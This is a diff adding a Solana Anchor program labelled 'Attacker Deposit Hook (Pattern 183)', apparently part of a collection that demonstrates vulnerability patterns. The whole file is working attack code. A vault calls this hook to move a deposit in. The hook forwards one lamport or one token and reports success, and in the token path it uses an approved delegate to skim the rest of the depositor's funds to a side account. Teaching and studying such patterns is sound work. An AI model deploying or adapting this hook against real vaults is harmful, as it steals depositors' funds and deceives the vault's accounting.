@@ -0,0 +1,133 @@
+use anchor_lang::prelude::*;
+use anchor_lang::system_program::{self, Transfer};
+use anchor_spl::token_interface::{self, Mint, TokenAccount, TokenInterface, TransferChecked};
+use demo_log::{demo_log, Mode};
+
+declare_id!("BTGR7Brm44vmhJHqmGgUT2rpobrFctuaoJMhP6RocSY7");
+
+/// # Attacker Deposit Hook (Pattern 183)
+///
+/// The asset's creator registers this program as the asset's deposit hook,
+/// the same way a Token-2022 mint creator picks the mint's transfer hook.
+/// The vault CPIs into it to move the depositor's funds in.
+///
+/// An honest hook would forward the full `amount`. This one forwards a
+/// single lamport and returns success — the vault has no way to tell
+/// unless it measures what actually arrived.
+///
+/// For a token vault, the depositor approves the hook's `delegate` PDA to
+/// move the deposit. The hook takes all of it from the depositor, sends
+/// the vault one token, and skims the rest to a side account.
+#[program]
+pub mod sandwich_hook {
+    use super::*;
+
+    pub fn on_deposit(ctx: Context<OnDeposit>, amount: u64) -> Result<()> {
+        // ATTACKER: the vault asked for `amount`; we forward 1 lamport.
+        let forwarded = amount.min(1);
+
+        system_program::transfer(
+            CpiContext::new(
+                ctx.accounts.system_program.to_account_info(),
+                Transfer {
+                    from: ctx.accounts.depositor.to_account_info(),
+                    to: ctx.accounts.vault.to_account_info(),
+                },
+            ),
+            forwarded,
+        )?;
+
+        demo_log!(
+            Mode::Attacker,
+            "hook",
+            actor = ctx.accounts.depositor.key(),
+            amount = amount,
+            forwarded = forwarded
+        );
+        Ok(())
+    }
+
+    pub fn on_token_deposit(ctx: Context<OnTokenDeposit>, amount: u64) -> Result<()> {
+        // ATTACKER: the depositor's account is debited `amount`; the vault
+        // gets 1 token of it and the side account the rest.
+        let forwarded = amount.min(1);
+        let skimmed = amount - forwarded;
+
+        let accounts = &ctx.accounts;
+        let seeds: &[&[u8]] = &[b"delegate", &[ctx.bumps.delegate]];
+        pay(
+            accounts,
+            accounts.vault_token.to_account_info(),
+            forwarded,
+            seeds,
+        )?;
+        pay(
+            accounts,
+            accounts.side_token.to_account_info(),
+            skimmed,
+            seeds,
+        )?;
+
+        demo_log!(
+            Mode::Attacker,
+            "token_hook",
+            actor = accounts.depositor_token.owner,
+            amount = amount,
+            forwarded = forwarded,
+            skimmed = skimmed
+        );
+        Ok(())
+    }
+}
+
+/// Move `amount` from the depositor's account to `to`, signing as the
+/// delegate.
+fn pay<'info>(
+    accounts: &OnTokenDeposit<'info>,
+    to: AccountInfo<'info>,
+    amount: u64,
+    seeds: &[&[u8]],
+) -> Result<()> {
+    token_interface::transfer_checked(
+        CpiContext::new_with_signer(
+            accounts.token_program.to_account_info(),
+            TransferChecked {
+                from: accounts.depositor_token.to_account_info(),
+                mint: accounts.mint.to_account_info(),
+                to,
+                authority: accounts.delegate.to_account_info(),
+            },
+            &[seeds],
+        ),
+        amount,
+        accounts.mint.decimals,
+    )
+}
+
+#[derive(Accounts)]
+pub struct OnDeposit<'info> {
+    #[account(mut)]
+    pub depositor: Signer<'info>,
+    /// CHECK: Receives the forwarded lamports.
+    #[account(mut)]
+    pub vault: UncheckedAccount<'info>,
+    pub system_program: Program<'info, System>,
+}
+
+/// The accounts the vault passes, then the hook's own: its delegate PDA
+/// and the side account.
+#[derive(Accounts)]
+pub struct OnTokenDeposit<'info> {
+    #[account(mut)]
+    pub depositor_token: InterfaceAccount<'info, TokenAccount>,
+    #[account(mut)]
+    pub vault_token: InterfaceAccount<'info, TokenAccount>,
+    pub mint: InterfaceAccount<'info, Mint>,
+    pub token_program: Interface<'info, TokenInterface>,
+    /// CHECK: The PDA the depositor approved; signs both transfers.
+    #[account(seeds = [b"delegate"], bump)]
+    pub delegate: UncheckedAccount<'info>,
+    /// Receives the skim.
+    #[account(mut, token::mint = mint)]
+    pub side_token: InterfaceAccount<'info, TokenAccount>,
+}